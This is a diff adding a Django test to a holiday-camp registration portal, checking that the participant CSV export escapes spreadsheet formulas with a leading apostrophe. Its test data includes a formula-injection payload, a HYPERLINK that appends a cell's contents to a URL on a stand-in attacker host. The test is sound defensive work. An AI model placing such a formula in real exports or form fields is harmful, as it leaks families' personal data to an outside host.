@@ -153,6 +153,29 @@ def test_teilnehmende_als_csv(client_fuer, mitglied_a, belegte_durchfuehrung):
     assert zeilen[2][6] == ""
 
 
+def test_teilnehmende_csv_fuehrt_keine_formeln_aus(client_fuer, mitglied_a, belegte_durchfuehrung):
+    """Names a parent typed reach the provider's spreadsheet as text, never as a formula."""
+    boese = '=HYPERLINK("http://evil.example/?d="&F2;"Details")'
+    kind = KindFactory(
+        vorname=boese,
+        nachname="-Müller",
+        geburtsdatum=geburtsdatum_fuer(9, belegte_durchfuehrung.erster_tag),
+        hinweise="@SUMME(1;2)",
+        hinweise_einwilligung_am=timezone.now(),
+        notfall_telefon="+49 171 2345",
+    )
+    ferien.anmelden(kind=kind, durchfuehrung=belegte_durchfuehrung, von=kind.eltern)
+    antwort = client_fuer(mitglied_a).get(
+        reverse("ferien:teilnehmende_csv", args=[belegte_durchfuehrung.pk])
+    )
+    zeilen = list(csv.reader(io.StringIO(antwort.content.decode("utf-8-sig")), delimiter=";"))
+    zeile = next(z for z in zeilen if "HYPERLINK" in z[2])
+    assert zeile[2:4] == ["'" + boese, "'-Müller"]
+    assert zeile[5:7] == ["'+49 171 2345", "'@SUMME(1;2)"]
+    assert zeile[4] == "9"  # the age, a number the portal computed, stays a number
+    assert not any(z.startswith(("=", "+", "-", "@", "\t", "\r")) for r in zeilen for z in r)
+
+
 def test_anwesenheit(client_fuer, mitglied_a, belegte_durchfuehrung):
     hanna = Anmeldung.objects.get(kind__vorname="Hanna")
     client_fuer(mitglied_a).post(
